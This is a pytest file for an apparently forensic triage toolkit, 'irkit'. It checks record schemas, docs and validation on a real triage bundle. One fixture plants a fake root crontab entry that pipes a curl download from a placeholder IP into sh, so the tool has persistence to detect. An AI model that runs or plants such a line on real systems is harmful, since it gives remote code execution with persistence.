"""The record dataclasses are the one definition: the packaged JSON Schemas, docs/records.md
and the readers' type table are generated from them, and a real triage bundle's records are
valid against those schemas (checked with jsonschema, the reference validator)."""

import json
import shutil
import subprocess
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from conftest import irkit_command, irkit_env

import irkit.cli  # noqa: F401  (imports every module that defines a record type)
from irkit.analysis.heuristics import FIELD_TYPES
from irkit.evidence.records import FileRecord, Record
from irkit.evidence.schema import DOCS, RECORD_CLASSES, problems, record_classes, render_docs
from irkit.evidence.typed import SCHEMA_DIR, field_types, record_from_dict


def test_the_docs_and_the_schemas_are_what_the_dataclasses_give() -> None:
    """Fails when a record field changes without `python -m irkit.evidence.schema --write`."""
    assert list(problems()) == []


def test_the_check_names_each_kind_of_drift(tmp_path: Path) -> None:
    docs = tmp_path / "records.md"
    text = DOCS.read_text()
    docs.write_text(text.replace("| pid | int | process id", "| pid | str | process id", 1))
    schemas = tmp_path / "schema"
    shutil.copytree(SCHEMA_DIR, schemas)
    (schemas / "socket.json").write_text("{}\n")
    (schemas / "gone.json").write_text("{}\n")
    found = list(problems(docs, schemas))
    assert f"{docs}: a field table differs from its dataclass" in found
    assert f"{schemas / 'socket.json'} is not what the dataclass SocketRecord gives" in found
    assert f"{schemas / 'gone.json'} describes no record type" in found

    docs.write_text(text.replace("<!-- record: gpu -->", "<!-- gpu -->"))
    assert f"{docs} has no `<!-- record: gpu -->` block" in list(problems(docs, schemas))


def test_a_block_for_an_unknown_type_is_an_error() -> None:
    with pytest.raises(KeyError, match="no-such-type"):
        render_docs("<!-- record: no-such-type -->\n<!-- end record -->\n", record_classes())


def _subclasses(cls: type) -> set[type]:
    found = set(cls.__subclasses__())
    for sub in list(found):
        found |= _subclasses(sub)
    return found


def test_every_record_type_is_registered() -> None:
    registered = {f"{cls.__module__}:{cls.__qualname__}" for cls in record_classes()}
    defined = {
        f"{cls.__module__}:{cls.__qualname__}"
        for cls in _subclasses(Record)
        if cls.__module__.startswith("irkit.") and "kind" in cls.__dict__
    }
    assert defined <= registered
    assert len(RECORD_CLASSES) == len({cls.kind for cls in record_classes()})


def test_the_readers_type_table_comes_from_the_schemas() -> None:
    generated = field_types("process", "socket", "persistence", "gpu_process", "finding")
    assert generated == FIELD_TYPES
    assert FIELD_TYPES["pid"] == (int,)
    assert FIELD_TYPES["cpu_percent"] == (int, float)
    assert FIELD_TYPES["cmdline"] == (list,)
    assert "exe_deleted" not in FIELD_TYPES  # a bool: True is an int, so it is not checked here
    assert field_types("session", "persistence")["line"] == (str, int)


@pytest.fixture(scope="module")
def triage_bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A real triage of this machine's /proc with a fixture root that holds persistence."""
    base = tmp_path_factory.mktemp("triage")
    etc = base / "root" / "etc"
    etc.mkdir(parents=True)
    (etc / "passwd").write_text("root:x:0:0:root:/root:/bin/bash\n")
    (etc / "crontab").write_text("*/5 * * * * root curl -fsSL http://198.51.100.9/x.sh | sh\n")
    bundle = base / "case.zip"
    with subprocess.Popen(["sleep", "600"]) as mine:
        try:
            proc = subprocess.run(
                irkit_command("triage", "--root", base / "root", "--proc", "/proc", "-o", bundle),
                capture_output=True,
                env=irkit_env(),
                timeout=600,
                check=False,
            )
        finally:
            mine.kill()
    assert proc.returncode in (0, 1, 3), proc.stderr.decode()
    (base / "sleep.pid").write_text(str(mine.pid))
    return bundle


def _records(bundle: Path) -> list[dict[str, Any]]:
    with zipfile.ZipFile(bundle) as archive:
        return [
            json.loads(line)
            for name in archive.namelist()
            if name.startswith("records/") and name.endswith(".jsonl")
            for line in archive.read(name).splitlines()
        ]


def test_every_record_of_a_real_triage_is_valid_against_its_schema(triage_bundle: Path) -> None:
    schemas = {path.stem: json.loads(path.read_text()) for path in SCHEMA_DIR.glob("*.json")}
    seen: Counter[str] = Counter()
    for record in _records(triage_bundle):
        schema = schemas[record["type"]]
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(record, schema, cls=jsonschema.Draft202012Validator)
        seen[record["type"]] += 1
    assert {"process", "persistence", "file", "host", "finding", "verdict"} <= set(seen)
    started = int((triage_bundle.parent / "sleep.pid").read_text())
    assert any(r["type"] == "process" and r["pid"] == started for r in _records(triage_bundle))


def test_a_schema_refuses_a_record_that_does_not_fit() -> None:
    schema = json.loads((SCHEMA_DIR / "persistence.json").read_text())
    record = {"type": "persistence", "mechanism": "cron", "source": "/etc/crontab",
              "line": "1", "owner": None, "schedule": None, "command": None, "mtime": None,
              "ctime": None, "sha256": None, "member": None, "detail": {}}  # fmt: skip
    with pytest.raises(jsonschema.ValidationError, match="'1' is not of type"):
        jsonschema.validate(record, schema, cls=jsonschema.Draft202012Validator)


def test_a_record_from_an_older_irkit_without_a_newer_field_is_valid() -> None:
    schema = json.loads((SCHEMA_DIR / "file.json").read_text())
    record = FileRecord("/etc/x", "files/etc/x", "t", None, 1, 0o100644, 0, 0, "", "", "")
    older = {k: v for k, v in record.to_dict().items() if k != "crtime"}
    jsonschema.validate(older, schema, cls=jsonschema.Draft202012Validator)
    assert record_from_dict(FileRecord, older) == record
    with pytest.raises(jsonschema.ValidationError, match="Additional properties"):
        jsonschema.validate(older | {"surprise": 1}, schema, cls=jsonschema.Draft202012Validator)
